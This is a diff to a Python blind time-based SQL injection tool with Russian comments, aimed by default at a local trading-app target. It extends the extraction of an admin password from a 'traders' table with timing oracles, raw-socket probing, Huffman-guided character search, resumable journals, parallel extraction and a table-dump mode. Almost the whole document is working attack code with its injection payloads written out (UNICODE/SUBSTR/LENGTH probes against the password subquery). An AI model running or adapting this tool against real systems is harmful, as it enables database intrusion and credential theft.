@@ -4,12 +4,19 @@ import json
 import statistics
 import concurrent.futures
 import sys
+import threading
 from typing import List, Dict, Optional
 import hashlib
 
+from raw_client import RawProbeClient
+from oracles import ENDPOINT_FIELDS, ORACLES, TimingOracle, select_oracle
+from charmodel import CharModel, uniform_expected_probes
+from profiling import profiled, profiler_from_argv
+
 class HFTSQLiAttack:
     
-    def __init__(self, base_url="http://127.0.0.1:8888"):
+    def __init__(self, base_url="http://127.0.0.1:8888", transport="requests", oracle=None,
+                 processes=1, char_model=None):
         self.base_url = base_url
         self.check_url = f"{base_url}/check"
         self.market_url = f"{base_url}/market"
@@ -24,20 +31,72 @@ class HFTSQLiAttack:
        
         self.response_times = []
         self.failed_requests = 0
+        # Счетчики меняются из потоков пула (send_parallel_requests, дамп)
+        self._stats_lock = threading.Lock()
         
        
         self.max_workers = 10
         self.batch_size = 100
         
+        # Планировщик темпа (pacing.ProbePacer) вместо отправки пачкой
+        self.pacer = None
+        
+        # processes > 1: позиции извлекаются пулом процессов (parallel_extract)
+        self.processes = processes
+        
+        self.target_query = "(SELECT password FROM traders WHERE username='admin')"
+        
+        # Модель частот символов: дерево проверок вместо равномерного поиска
+        self.char_model = char_model
+        self.char_probes = []
+        
+        # Журнал для продолжения прерванного запуска (journal.ProbeJournal)
+        self.journal = None
+        
+        # Колоночное хранилище всех замеров (results.ProbeStore)
+        self.store = None
+        
+        # Профиль по фазам атаки (--profile), см. profiling.py
+        self.profiler = None
+        
        
         self.charset = "0123456789"
         self.charset += "abcdefghijklmnopqrstuvwxyz"
         self.charset += "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
         self.charset += "!@#$%^&*()_+-=[]{}|;:,.<>?/~`"
+        
+        # transport="raw": сырые сокеты вместо requests (меньше джиттера клиента)
+        self.transport = transport
+        self.raw_client = RawProbeClient(base_url, timeout=self.timeout) if transport == "raw" else None
+        
+        # Оракул: None - классический RTT порог, 'auto' - самый дешевый
+        # надежный из ORACLES, либо имя конкретного оракула
+        self.oracle_mode = oracle
+        self.oracle = None
+        self.oracle_report = []
+    
+    def count_request(self):
+        with self._stats_lock:
+            self.request_count += 1
+    
+    def count_response(self, elapsed: Optional[float]):
+        """Итог запроса: время ответа или None - неудачный запрос"""
+        with self._stats_lock:
+            if elapsed is None:
+                self.failed_requests += 1
+            else:
+                self.response_times.append(elapsed)
     
     def send_request(self, condition: str) -> Optional[float]:
         
-        self.request_count += 1
+        self.count_request()
+        
+        if self.raw_client is not None:
+            elapsed = self.raw_client.send_request(condition)
+            self.count_response(elapsed)
+            if self.store is not None:
+                self.record_sample('/check', condition, elapsed)
+            return elapsed
         
         try:
             start = time.perf_counter()
@@ -53,18 +112,115 @@ class HFTSQLiAttack:
             elapsed = time.perf_counter() - start
             
             if response.status_code == 200:
-                self.response_times.append(elapsed)
+                self.count_response(elapsed)
+                if self.store is not None:
+                    self.record_sample('/check', condition, elapsed, response.json())
                 return elapsed
             else:
-                self.failed_requests += 1
+                self.count_response(None)
+                if self.store is not None:
+                    self.record_sample('/check', condition, None)
                 return None
                 
         except Exception as e:
-            self.failed_requests += 1
+            self.count_response(None)
+            if self.store is not None:
+                self.record_sample('/check', condition, None)
             return None
     
-    def test_condition_statistical(self, condition: str, samples: int = 10) -> bool:
+    def record_sample(self, path: str, condition: str, rtt: Optional[float], body: Optional[Dict] = None):
+        """Замер в хранилище; время сервера и истинность условия - из тела ответа"""
+        server_time = truth = None
+        if body and path in ENDPOINT_FIELDS:
+            time_field, scale, bool_field = ENDPOINT_FIELDS[path]
+            if isinstance(body.get(time_field), (int, float)):
+                server_time = body[time_field] * scale
+            truth = body.get(bool_field)
+        self.store.record(path, condition, rtt, server_time, truth)
+    
+    def fetch_json(self, path: str, params: Dict[str, str]):
+        """(RTT, тело ответа) для оракулов, читающих тело, или None"""
+        self.count_request()
         
+        try:
+            start = time.perf_counter()
+            response = requests.get(
+                f"{self.base_url}{path}",
+                params=params,
+                timeout=self.timeout,
+                headers={'User-Agent': 'HFT-Trader/1.0', 'Connection': 'close'}
+            )
+            elapsed = time.perf_counter() - start
+            
+            if response.status_code == 200:
+                self.count_response(elapsed)
+                body = response.json()
+                if self.store is not None:
+                    self.record_sample(path, params.get('condition', ''), elapsed, body)
+                return elapsed, body
+        except Exception:
+            pass
+        
+        self.count_response(None)
+        if self.store is not None:
+            self.record_sample(path, params.get('condition', ''), None)
+        return None
+    
+    def setup_oracle(self):
+        if not self.oracle_mode:
+            return
+        
+        if self.journal is not None and self.oracle_mode in self.journal.calibration:
+            self.oracle = TimingOracle.from_state(self, self.journal.calibration[self.oracle_mode])
+            print(f"\n Калибровка оракула восстановлена из журнала: {self.oracle.name}")
+            return
+        
+        print(f"\n Калибровка оракулов ({self.oracle_mode})...")
+        candidates = None if self.oracle_mode == 'auto' else [self.oracle_mode]
+        self.oracle = select_oracle(self, candidates=candidates)
+        
+        if self.journal is not None and self.oracle is not None:
+            self.journal.record_calibration(self.oracle_mode, self.oracle.state())
+        
+        for row in self.oracle_report:
+            if row['reliable']:
+                print(f"  {row['oracle']:<12} {row['path']:<8} → {row['samples_per_decision']} замер(ов)/решение, "
+                      f"{row['cost_ms']:.2f} мс/решение")
+            else:
+                print(f"  {row['oracle']:<12} {row['path']:<8} → ненадежен")
+        
+        if self.oracle:
+            print(f"  Выбран оракул: {self.oracle.name} на {self.oracle.path}")
+        else:
+            print("  Надежный оракул не найден, используется RTT порог")
+    
+    def test_condition(self, condition: str, samples: int = 10,
+                       oracle: Optional[TimingOracle] = None) -> bool:
+        if self.journal is not None:
+            cached = self.journal.lookup(condition)
+            if cached is not None:
+                return cached
+        
+        if self.store is not None:
+            self.store.begin_probe(condition)
+        
+        oracle = oracle or self.oracle
+        if oracle is not None:
+            result, confidence = oracle.decide_with_confidence(condition)
+        else:
+            result, confidence = self.decide_statistical(condition, samples)
+        
+        if self.store is not None:
+            self.store.end_probe(condition, result, confidence)
+        if self.journal is not None:
+            self.journal.record_probe(condition, result, confidence)
+        return result
+    
+    def test_condition_statistical(self, condition: str, samples: int = 10) -> bool:
+        return self.decide_statistical(condition, samples)[0]
+    
+    def decide_statistical(self, condition: str, samples: int = 10):
+        """Решение по среднему RTT и доля замеров, согласных с ним"""
         times = []
         
         for _ in range(samples):
@@ -73,18 +229,26 @@ class HFTSQLiAttack:
                 times.append(elapsed)
         
         if len(times) < samples / 2:
-            return False
+            return False, 0.0
         
         
         avg_time = statistics.mean(times)
         std_dev = statistics.stdev(times) if len(times) > 1 else 0
         
        
-        return avg_time > self.sleep_threshold
+        result = avg_time > self.sleep_threshold
+        agree = sum(1 for t in times if (t > self.sleep_threshold) == result)
+        return result, agree / len(times)
     
     def send_parallel_requests(self, conditions: List[str]) -> Dict[str, float]:
         results = {}
         
+        if self.pacer is not None:
+            for m in self.pacer.run(conditions):
+                if m.elapsed is not None:
+                    results[m.condition] = m.elapsed
+            return results
+        
         with concurrent.futures.ThreadPoolExecutor(max_workers=self.max_workers) as executor:
             future_to_cond = {
                 executor.submit(self.send_request, cond): cond 
@@ -105,8 +269,17 @@ class HFTSQLiAttack:
     def discover_length_hft(self) -> Optional[int]:
         print(" Определение длины пароля (HFT метод)...")
         
-        query = "(SELECT password FROM traders WHERE username='admin')"
+        query = self.target_query
         
+        if self.oracle is not None:
+            # Через журнал и хранилище, как и символы: продолженный запуск не
+            # повторяет проверки длины
+            for length in range(1, 33):
+                if self.test_condition(f"LENGTH({query}) = {length}"):
+                    print(f" Найдена длина пароля: {length} символов")
+                    return length
+            print(" Не удалось определить длину")
+            return None
       
         conditions = []
         for length in range(1, 33):
@@ -114,6 +287,9 @@ class HFTSQLiAttack:
             conditions.append(condition)
         
        
+        if self.pacer is not None:
+            return self.discover_length_paced(conditions)
+        
         batches = [conditions[i:i + self.batch_size] 
                   for i in range(0, len(conditions), self.batch_size)]
         
@@ -130,39 +306,113 @@ class HFTSQLiAttack:
         print(" Не удалось определить длину")
         return None
     
-    def extract_char_optimized(self, position: int) -> Optional[str]:
+    def discover_length_paced(self, conditions: List[str]) -> Optional[int]:
+        """
+        Длина по замерам планировщика: RTT очищается от оценки ожидания в
+        очереди, кандидаты по убыванию очищенного времени подтверждаются
+        последовательными замерами против порога, откалиброванного тут же
+        на известно-истинном и известно-ложном условии.
+        """
+        measurements = self.pacer.run(conditions)
+        stats = self.pacer.stats()
+        print(f"  Темп: limit={stats['limit']}, обслуживание "
+              f"{stats['service_time_ms'] or 0:.2f} мс, медиана очереди "
+              f"{stats['median_queue_delay_ms'] or 0:.2f} мс")
+        
+        # Порог не применяется: после вычитания очереди важен порядок, а не
+        # абсолютное время. Одиночный замер шумный, поэтому порядок лишь
+        # экономит проверки - подтверждаются все кандидаты до первого успеха
+        candidates = sorted(
+            (m for m in measurements if m.corrected is not None),
+            key=lambda m: m.corrected, reverse=True
+        )
+        
+        # RTT ложного класса - это время обслуживания сервера, и оно может
+        # быть выше фиксированного sleep_threshold: порог подтверждения
+        # калибруется по базовым замерам обоих классов прямо перед проверкой
+        confirm = TimingOracle(self)
+        if confirm.calibrate() is None:
+            print(" RTT не разделяет истинные и ложные условия: длина не подтверждена")
+            return None
+        print(f"  Порог подтверждения: {confirm.threshold * 1000:.2f} мс, "
+              f"{confirm.samples} замер(ов)/решение")
         
-        query = "(SELECT password FROM traders WHERE username='admin')"
+        for m in candidates:
+            if self.test_condition(m.condition, oracle=confirm):
+                length = int(m.condition.split('=')[-1].strip())
+                print(f" Найдена длина пароля: {length} символов")
+                return length
+        
+        print(" Не удалось определить длину")
+        return None
+    
+    def extract_char_optimized(self, position: int, query: Optional[str] = None) -> Optional[str]:
+        
+        query = query or self.target_query
         
         print(f"  Позиция {position:2d}: ", end='', flush=True)
         
-       
+        found_char = self.search_char(position, query)
+        
+        if found_char:
+            print(f"'{found_char}' (ASCII {ord(found_char)}, {self.char_probes[-1]} проверок) ✓")
+            return found_char
+        
+        print("✗ не найден")
+        return None
+    
+    def search_char(self, position: int, query: str) -> Optional[str]:
+        """Поиск символа без вывода (используется и при дампе таблицы)"""
+        if self.char_model is not None:
+            return self.search_char_tree(position, query)
+        return self.search_char_bisect(position, query)
+    
+    def search_char_bisect(self, position: int, query: str, probes: int = 0) -> Optional[str]:
+        """Равномерный бинарный поиск по печатным ASCII; probes - уже сделанные проверки"""
         low, high = 32, 126
         found_char = None
         
+        # В SQLite нет ASCII(), код символа возвращает UNICODE()
         while low <= high:
             mid = (low + high) // 2
             
            
-            condition_ge = f"ASCII(SUBSTR({query}, {position}, 1)) >= {mid}"
+            condition_ge = f"UNICODE(SUBSTR({query}, {position}, 1)) >= {mid}"
+            probes += 1
             
-            if self.test_condition_statistical(condition_ge, samples=5):
+            if self.test_condition(condition_ge, samples=5):
                
-                condition_eq = f"ASCII(SUBSTR({query}, {position}, 1)) = {mid}"
+                condition_eq = f"UNICODE(SUBSTR({query}, {position}, 1)) = {mid}"
+                probes += 1
                 
-                if self.test_condition_statistical(condition_eq, samples=3):
+                if self.test_condition(condition_eq, samples=3):
                     found_char = chr(mid)
                     break
                 low = mid + 1
             else:
                 high = mid - 1
         
-        if found_char:
-            print(f"'{found_char}' (ASCII {ord(found_char)}) ✓")
-            return found_char
-        
-        print("✗ не найден")
-        return None
+        self.char_probes.append(probes)
+        return found_char
+    
+    def search_char_tree(self, position: int, query: str) -> Optional[str]:
+        """Спуск по дереву Хаффмана модели: частые символы - за меньшее число проверок"""
+        expr = f"SUBSTR({query}, {position}, 1)"
+        node = self.char_model.tree()
+        probes = 0
+        
+        while not node.is_leaf():
+            probes += 1
+            node = node.yes if self.test_condition(node.condition(expr), samples=5) else node.no
+        
+        # Лист достигается всегда, даже при ошибке оракула на любом уровне
+        # спуска или символе вне модели - лист подтверждается точным равенством
+        probes += 1
+        if self.test_condition(f"UNICODE({expr}) = {ord(node.char)}", samples=3):
+            self.char_probes.append(probes)
+            return node.char
+        
+        return self.search_char_bisect(position, query, probes)
     
     def attack_market_conditions(self):
       
@@ -267,41 +517,67 @@ class HFTSQLiAttack:
         
         vulnerable = False
         for condition in test_conditions:
-            elapsed = self.send_request(condition)
+            with profiled(self.profiler, 'probe_vulnerabilities'):
+                elapsed = self.send_request(condition)
             if elapsed and elapsed > self.sleep_threshold:
                 print(f"   Уязвимость: {condition[:40]:<40} → {elapsed*1000:6.2f} ms")
                 vulnerable = True
             elif elapsed:
                 print(f"  ✗ Нет уязвимости: {condition[:40]:<40} → {elapsed*1000:6.2f} ms")
         
+        # Откалиброванный оракул сам по себе доказывает наличие канала утечки
+        with profiled(self.profiler, 'setup_oracle'):
+            self.setup_oracle()
+        if self.oracle is not None:
+            vulnerable = True
+        
         if not vulnerable:
             print("   Timing уязвимости не обнаружены")
             return
         
         
-        length = self.discover_length_hft()
+        with profiled(self.profiler, 'discover_length'):
+            length = self.discover_length_hft()
         if not length:
             print("  Использую стандартную длину: 16 символов")
             length = 16
         
         
         print(f"\n Извлечение пароля ({length} символов)...")
-        password_chars = []
-        
-        for pos in range(1, length + 1):
-            char = self.extract_char_optimized(pos)
-            if char:
-                password_chars.append(char)
-                current = ''.join(password_chars)
-                print(f"    Прогресс: '{current}'")
-            else:
-                password_chars.append('?')
         
-        password = ''.join(password_chars)
+        if self.journal is not None:
+            print(f" Журнал: {self.journal.replayed} решений восстановлено, "
+                  f"{self.journal.to_verify} с низкой уверенностью будут перепроверены")
+            known = self.journal.known_prefix(self.target_query)
+            if known:
+                print(f"    Уже извлечено: '{known}'")
+        
+        password = None
+        if self.processes > 1:
+            from parallel_extract import extract_parallel
+            with profiled(self.profiler, 'extract_parallel'):
+                password = extract_parallel(self, self.target_query, length, self.processes)
+        if password is None:
+            password_chars = []
+            
+            for pos in range(1, length + 1):
+                with profiled(self.profiler, 'extract_char'):
+                    char = self.extract_char_optimized(pos)
+                if char:
+                    if self.journal is not None:
+                        self.journal.record_char(self.target_query, pos, char)
+                    password_chars.append(char)
+                    current = ''.join(password_chars)
+                    print(f"    Прогресс: '{current}'")
+                else:
+                    password_chars.append('?')
+            
+            password = ''.join(password_chars)
         
         # Дополнительные атаки для HFT
-        self.attack_market_conditions()
-        self.attack_trade_execution()
+        with profiled(self.profiler, 'market_and_trade'):
+            self.attack_market_conditions()
+            self.attack_trade_execution()
         
        
         print(f"\n Проверка извлеченного пароля...")
@@ -334,6 +610,26 @@ class HFTSQLiAttack:
             print(f" Максимальное время: {max_time:.2f} мс")
         
         print(f" Скорость: {self.request_count/total_time:.1f} запр/сек")
+        
+        if self.journal is not None:
+            self.journal.flush()
+            print(f" Решений взято из журнала: {self.journal.reused}")
+        
+        if self.char_probes:
+            avg_probes = statistics.mean(self.char_probes)
+            print(f" Проверок на символ: {avg_probes:.2f} "
+                  f"(log2(95) = {uniform_expected_probes():.2f})")
+            if self.char_model is not None:
+                print(f" Модель символов: {self.char_model.name}, ожидалось "
+                      f"{self.char_model.expected_probes():.2f} проверок на символ")
+        
+        if self.oracle is not None:
+            stats = self.oracle.stats()
+            print(f" Оракул: {stats['oracle']} ({stats['path']}), "
+                  f"калибровка: {stats['calibration_requests']} запросов")
+            if stats['observed_per_decision'] is not None:
+                print(f" Замеров на решение: {stats['observed_per_decision']:.2f} "
+                      f"({stats['decisions']} решений)")
         print("="*80)
         
         if password and '?' not in password:
@@ -347,16 +643,71 @@ def main():
    
     import sys
     
-    if len(sys.argv) > 1:
-        base_url = sys.argv[1]
+    args = [arg for arg in sys.argv[1:] if not arg.startswith('--')]
+    transport = "raw" if '--raw' in sys.argv else "requests"
+    oracle = None
+    processes = 1
+    char_model = None
+    dump = '--dump' in sys.argv
+    journal_path = None
+    store_path = None
+    pace = False
+    for arg in sys.argv[1:]:
+        if arg.startswith('--store='):
+            store_path = arg.split('=', 1)[1]
+        elif arg == '--pace':
+            pace = True
+        elif arg.startswith('--journal='):
+            journal_path = arg.split('=', 1)[1]
+        elif arg.startswith('--charmodel='):
+            char_model = CharModel.load(arg.split('=', 1)[1])
+        elif arg.startswith('--processes='):
+            processes = int(arg.split('=', 1)[1])
+        elif arg.startswith('--oracle='):
+            oracle = arg.split('=', 1)[1]
+            if oracle != 'auto' and oracle not in ORACLES:
+                print(f" Неизвестный оракул: {oracle} (auto, {', '.join(ORACLES)})")
+                return
+    
+    if args:
+        base_url = args[0]
     else:
         base_url = "http://127.0.0.1:8888"
     
     print(f" HFT атака на: {base_url}")
     print(" Используются микросекундные timing атаки")
+    print(f" Транспорт: {transport}")
     
-    attack = HFTSQLiAttack(base_url)
-    attack.run_hft_attack()
+    attack = HFTSQLiAttack(base_url, transport=transport, oracle=oracle, processes=processes,
+                           char_model=char_model)
+    attack.profiler = profiler_from_argv(sys.argv[1:], 'attack')
+    
+    if pace:
+        from pacing import ProbePacer
+        attack.pacer = ProbePacer(attack.send_request, max_concurrency=attack.max_workers)
+    
+    if journal_path:
+        from journal import ProbeJournal
+        attack.journal = ProbeJournal(journal_path, base_url)
+    
+    if store_path:
+        from results import ProbeStore
+        attack.store = ProbeStore(store_path)
+    
+    try:
+        if dump:
+            from dump import run_dump
+            run_dump(attack)
+        else:
+            attack.run_hft_attack()
+    finally:
+        if attack.journal is not None:
+            attack.journal.close()
+        if attack.profiler is not None:
+            attack.profiler.close()
+        if attack.store is not None:
+            attack.store.close()
+            print(f" Замеров сохранено: {attack.store.rows} ({store_path}, анализ: python analysis.py {store_path})")
 
 if __name__ == "__main__":
     main()